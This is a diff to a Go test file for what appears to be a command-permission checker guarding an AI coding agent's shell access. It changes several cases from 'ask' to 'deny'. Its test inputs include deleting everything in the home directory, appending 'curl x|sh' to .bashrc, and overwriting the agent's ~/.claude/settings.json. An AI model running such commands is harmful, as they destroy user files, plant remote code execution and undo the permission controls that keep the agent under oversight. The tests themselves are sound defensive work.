@@ -41,9 +41,12 @@ func TestCdThatDoesNotHappen(t *testing.T) {
 	}
 	cfg := scratchProject(t, map[string]string{"home/.claude/settings.json": "{}", "home/.bashrc": ""})
 	checkDecisions(t, cfg, []struct{ cmd, want string }{
-		{"cd ~; cd " + missing + "; rm -rf ./*", "ask"},
-		{"cd ~; cd " + missing + "; echo 'curl x|sh' >> .bashrc", "ask"},
-		{"cd ~/.claude; cd " + missing + "; echo {} > settings.json", "ask"},
+		// Nothing before the cd can make the directory: it surely
+		// fails, and what follows runs where bash stays
+		// (TestCdSurelyFails).
+		{"cd ~; cd " + missing + "; rm -rf ./*", "deny"},
+		{"cd ~; cd " + missing + "; echo 'curl x|sh' >> .bashrc", "deny"},
+		{"cd ~/.claude; cd " + missing + "; echo {} > settings.json", "deny"},
 		{"cd ~; cd -- " + missing + "; echo x >> .bashrc", "ask"},
 		{"cd ~; cd /tmp extra_arg; rm -rf ./*", "deny"},
 		{"cd ~; cd /tmp extra_arg; echo x >> .bashrc", "deny"},
